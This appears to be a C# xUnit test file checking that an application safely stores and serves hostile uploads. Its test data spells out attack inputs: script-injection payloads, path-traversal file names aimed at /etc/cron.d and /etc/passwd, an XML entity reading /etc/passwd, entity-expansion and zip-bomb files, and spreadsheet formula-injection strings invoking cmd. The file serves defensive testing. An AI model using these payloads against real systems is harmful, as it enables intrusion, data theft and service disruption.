using System.IO.Compression;
using System.Net;
using System.Net.Http.Headers;
using System.Text;
using System.Text.RegularExpressions;
using Luopan.Tests.Engines.Documents;
using Luopan.Tests.Modules.Records;
using Luopan.Tests.Support;
using Xunit;

namespace Luopan.Tests.Operation;

/// <summary>Files brought to do harm: refused with the way out, or kept under a name of ours outside the web root and handed out so that no browser runs them.</summary>
public sealed partial class HostileUploadTests
{
    private static readonly string[] Readers = ["/api/records/imports", "/api/plans", "/api/drafts/checks", "/api/drafts/comments"];

    private static CancellationToken Stop => TestContext.Current.CancellationToken;

    /// <summary>As brought, and as it is called afterwards.</summary>
    public static TheoryData<string, string, string, string> Brought => new()
    {
        { "网页.html", "text/html", "<script>alert(document.cookie)</script>", "网页.html" },
        { "图标.svg", "image/svg+xml", "<svg xmlns='http://www.w3.org/2000/svg' onload='alert(1)'/>", "图标.svg" },
        { "图片.gif", "image/gif", "GIF89a/*\u0001*/=1;alert(document.domain)", "图片.gif" },
        { "合同.pdf", "text/html", "%PDF-1.7\n<script>alert(1)</script>", "合同.pdf" },
        { "程序.exe", "application/x-msdownload", "MZ\u0090\0\u0003", "程序.exe" },
        { "合同.pdf.exe", "application/pdf", "MZ", "合同.pdf.exe" },
        { "照片.jpg.html", "image/jpeg", "<script>alert(1)</script>", "照片.jpg.html" },
        { "../../../../etc/cron.d/luopan", "text/plain", "* * * * * root reboot", "luopan" },
        { "..\\..\\windows\\system32\\evil.dll", "application/octet-stream", "MZ", "evil.dll" },
        { "/etc/passwd", "text/plain", "root::0:0", "passwd" },
        { "..", "text/plain", "点", "未命名" },
        { "付款\u202efdp.exe", "application/pdf", "MZ", "付款fdp.exe" },
        { "零\u200b宽\ufeff.txt", "text/plain", "字", "零宽.txt" },
        { "尾点.exe. .", "text/plain", "字", "尾点.exe" },
        { new string('长', 1000) + ".pdf", "application/pdf", "字", new string('长', 196) + ".pdf" },
        { "\ud83d" + new string('长', 10) + ".txt", "text/plain", "字", "\ufffd" + new string('长', 10) + ".txt" },
    };

    [Theory]
    [MemberData(nameof(Brought))]
    public async Task What_is_kept_lies_under_a_name_of_ours_and_leaves_only_as_a_harmless_download(string name, string type, string text, string called)
    {
        await using var app = await TestApp.Start();
        var client = await app.SignedIn("lead");
        var id = await client.Enter(Ledger.Project("收文登记"));
        var (before, bytes) = (Everything(app), Encoding.UTF8.GetBytes(text));

        var file = await (await client.PostAsync($"/api/records/items/{id}/files", Form(bytes, name, type), Stop)).Json();
        using var response = await client.GetAsync($"/api/records/items/{id}/files/{file.Text("id")}", Stop);

        Assert.Equal(called, file.Text("name"));
        Assert.All(Everything(app).Except(before), path => Assert.Matches(Kept(), path));
        Assert.Equal(bytes, await response.Content.ReadAsByteArrayAsync(Stop));
        Assert.Equal(("application/octet-stream", "attachment"), (response.Content.Headers.ContentType!.ToString(), response.Content.Headers.ContentDisposition!.DispositionType));
        Assert.Equal("nosniff", Assert.Single(response.Headers.GetValues("X-Content-Type-Options")));
        Assert.Equal("default-src 'none'; sandbox", Assert.Single(response.Headers.GetValues("Content-Security-Policy")));
        foreach (var path in new[] { "/files/", "/../files/", "/assets/../files/" })
            Assert.NotEqual(bytes, await (await app.Anybody().GetAsync(path + Everything(app).Except(before).First()["files/".Length..], Stop)).Content.ReadAsByteArrayAsync(Stop));
    }

    [Fact]
    public async Task A_name_with_a_NUL_or_a_line_break_in_it_loses_it()
    {
        await using var app = await TestApp.Start();
        var client = await app.SignedIn("lead");
        var id = await client.Enter(Ledger.Project("收文登记"));

        foreach (var name in new[] { "a\0.pdf.exe", "a\t.pdf", "a\u0085b.pdf" })
        {
            using var body = new ByteArrayContent(Encoding.UTF8.GetBytes($"--b\r\nContent-Disposition: form-data; name=\"file\"; filename=\"{name}\"\r\nContent-Type: text/plain\r\n\r\nx\r\n--b--\r\n"));
            body.Headers.ContentType = MediaTypeHeaderValue.Parse("multipart/form-data; boundary=b");
            using var response = await client.PostAsync($"/api/records/items/{id}/files", body, Stop);
            if (response.IsSuccessStatusCode) Assert.DoesNotContain((await response.Json()).Text("name"), char.IsControl);
            else Assert.Equal(HttpStatusCode.BadRequest, response.StatusCode);
        }
    }

    [Fact]
    public async Task Files_that_were_imported_leave_as_harmlessly()
    {
        await using var app = await TestApp.Start();
        var client = await app.SignedIn("lead");
        var plan = await (await client.PostAsync("/api/plans", Form(Encoding.UTF8.GetBytes("<html><body><h1>规划</h1><p>到2027年，引进项目12个。</p><script>alert(1)</script></body></html>"), "规划.html", "text/html"), Stop)).Json();
        var records = await (await client.Bring(Encoding.UTF8.GetBytes("项目名称,所在市\n<script>alert(1)</script>,云州市\n"), false, "项目.csv")).Json();

        foreach (var path in new[] { $"/api/plans/{plan.Text("id")}/original", $"/api/records/imports/{records.Text("file")}" })
        {
            using var response = await client.GetAsync(path, Stop);
            Assert.True(response.IsSuccessStatusCode, path);
            Assert.Equal(("application/octet-stream", "attachment", "default-src 'none'; sandbox"),
                (response.Content.Headers.ContentType!.ToString(), response.Content.Headers.ContentDisposition!.DispositionType, response.Headers.GetValues("Content-Security-Policy").Single()));
        }
    }

    [Fact]
    public async Task Archives_that_swell_and_documents_that_point_at_other_files_are_refused_everywhere_and_leave_nothing()
    {
        await using var app = await TestApp.Start();
        var client = await app.SignedIn("lead");
        var before = Everything(app);
        const string Entity = "<!DOCTYPE x [<!ENTITY e SYSTEM \"file:///etc/passwd\">]>";
        var laughs = "<!DOCTYPE x [<!ENTITY a \"ha\">" + string.Concat(Enumerable.Range(0, 25).Select(i => $"<!ENTITY {(char)('b' + i)} \"&{(char)('a' + i)};&{(char)('a' + i)};\">")) + "]>";
        (string What, byte[] Bytes, string Name)[] files =
        [
            ("swelling workbook", Book("", new string('0', 1 << 20), 200), "表.xlsx"),
            ("swelling document", new Docx().Raw("word/extra.xml", new byte[200 << 20]).With(Docx.P("甲")), "文.docx"),
            ("workbook with entities", Book(Entity, "&e;"), "表.xlsx"),
            ("workbook that laughs", Book(laughs, "&z;"), "表.xlsx"),
            ("document with entities", new Docx().Raw("word/extra.xml", Encoding.UTF8.GetBytes(Entity + "<a>&e;</a>")).With(Docx.P("甲")), "文.docx"),
            ("document that laughs", new Docx().Raw("word/extra.xml", Encoding.UTF8.GetBytes(laughs + "<a>&z;</a>")).With(Docx.P("甲")), "文.docx"),
            ("half a workbook", Book("", "1")[..200], "表.xlsx"),
            ("a program called workbook", [0x4D, 0x5A, 0x90, 0, 3, 0], "表.xlsx"),
            ("a program called document", [0x4D, 0x5A, 0x90, 0, 3, 0], "文.docx"),
            ("an archive in an archive", Zip("xl/workbook.xml", Zip("a", Zip("b", [1, 2, 3]))), "表.xlsx"),
        ];

        foreach (var (what, bytes, name) in files)
            foreach (var path in Readers)
            {
                using var response = await client.PostAsync(path, Form(bytes, name, "application/octet-stream", ("type", "test.project"), ("dryRun", "false")), Stop);
                var text = await response.Content.ReadAsStringAsync(Stop);
                Assert.True((int)response.StatusCode is 400 or 413 or 415 or 422, $"{path} answered a {what} with {(int)response.StatusCode} {text}");
                Assert.Matches("请|可导入", text);
                Assert.DoesNotContain("root:", text, StringComparison.Ordinal);
            }

        Assert.Equal(before, Everything(app));
    }

    [Fact]
    public async Task An_empty_file_and_more_files_than_a_form_has_are_refused_and_leave_nothing()
    {
        await using var app = await TestApp.Start();
        var client = await app.SignedIn("lead");
        var id = await client.Enter(Ledger.Project("收文登记"));
        var before = Everything(app);

        foreach (var path in Readers.Append("/api/indicators/imports").Append($"/api/records/items/{id}/files"))
        {
            var empty = await client.PostAsync(path, Form([], "空.txt", "text/plain", ("type", "test.project")), Stop).Fault();
            using var many = new MultipartFormDataContent();
            for (var i = 0; i < 200; i++) many.Add(new ByteArrayContent([1]), "file", $"{i}.txt");
            var told = await client.PostAsync(path, many, Stop).Fault();

            Assert.Equal((400, 400), (empty.Status, told.Status));
            Assert.Matches("no-file$|no-text$", empty.Code);
            Assert.Equal("platform.bad-request", told.Code);
        }

        Assert.Equal(before, Everything(app));
    }

    [Fact]
    public async Task What_a_spreadsheet_would_run_leaves_as_words()
    {
        await using var app = await TestApp.Start();
        var client = await app.SignedIn("lead");
        string[] formulas = ["=HYPERLINK(\"http://x/\"&A1)", "+cmd|' /C calc'!A0", "-2+3+cmd", "@SUM(1+1)*cmd", "\t=1+1"];
        foreach (var formula in formulas) await client.Enter(Ledger.Project(formula + "项目"));

        using var book = new ZipArchive(await (await client.GetAsync("/api/records/items/export?type=test.project", Stop)).Content.ReadAsStreamAsync(Stop));
        foreach (var entry in book.Entries.Where(e => e.FullName.StartsWith("xl/worksheets/", StringComparison.Ordinal)))
        {
            using var reader = new StreamReader(entry.Open());
            var sheet = await reader.ReadToEndAsync(Stop);
            Assert.DoesNotContain("<f>", sheet, StringComparison.Ordinal);
            Assert.DoesNotContain("<f ", sheet, StringComparison.Ordinal);
        }

        Assert.DoesNotContain(book.Entries, e => e.FullName.Contains("externalLink", StringComparison.Ordinal) || e.FullName.Contains("vba", StringComparison.Ordinal));
    }

    private static List<string> Everything(TestApp app) =>
        [.. Directory.EnumerateFiles(app.Folder, "*", SearchOption.AllDirectories).Select(f => Path.GetRelativePath(app.Folder, f)).Where(f => !f.StartsWith("luopan.db", StringComparison.Ordinal) && !f.EndsWith(".lock", StringComparison.Ordinal)).Order(StringComparer.Ordinal)];

    private static MultipartFormDataContent Form(byte[] bytes, string name, string type, params (string Name, string Text)[] more)
    {
        var file = new ByteArrayContent(bytes);
        file.Headers.ContentType = new MediaTypeHeaderValue(type);
        file.Headers.ContentDisposition = new ContentDispositionHeaderValue("form-data") { Name = "\"file\"", FileNameStar = name };
        var form = new MultipartFormDataContent { file };
        foreach (var (field, text) in more) form.Add(new StringContent(text), field);
        return form;
    }

    private static byte[] Book(string head, string cell, int times = 1)
    {
        using var stream = new MemoryStream();
        using (var zip = new ZipArchive(stream, ZipArchiveMode.Create, true))
        {
            Add(zip, "xl/workbook.xml", writer => writer.Write("<workbook xmlns='http://schemas.openxmlformats.org/spreadsheetml/2006/main' xmlns:r='http://schemas.openxmlformats.org/officeDocument/2006/relationships'><sheets><sheet name='表' sheetId='1' r:id='r1'/></sheets></workbook>"));
            Add(zip, "xl/_rels/workbook.xml.rels", writer => writer.Write("<Relationships xmlns='http://schemas.openxmlformats.org/package/2006/relationships'><Relationship Id='r1' Target='worksheets/sheet1.xml'/></Relationships>"));
            Add(zip, "xl/worksheets/sheet1.xml", writer =>
            {
                writer.Write(head + "<worksheet xmlns='http://schemas.openxmlformats.org/spreadsheetml/2006/main'><sheetData><row r='1'><c r='A1' t='inlineStr'><is><t>");
                for (var i = 0; i < times; i++) writer.Write(cell);
                writer.Write("</t></is></c></row></sheetData></worksheet>");
            });
        }

        return stream.ToArray();
    }

    private static void Add(ZipArchive zip, string path, Action<StreamWriter> write)
    {
        using var writer = new StreamWriter(zip.CreateEntry(path).Open());
        write(writer);
    }

    private static byte[] Zip(string path, byte[] bytes)
    {
        using var stream = new MemoryStream();
        using (var zip = new ZipArchive(stream, ZipArchiveMode.Create, true))
        using (var entry = zip.CreateEntry(path).Open()) entry.Write(bytes);
        return stream.ToArray();
    }

    [GeneratedRegex("^files/[0-9a-f]{2}/[0-9a-f]{64}$")]
    private static partial Regex Kept();
}
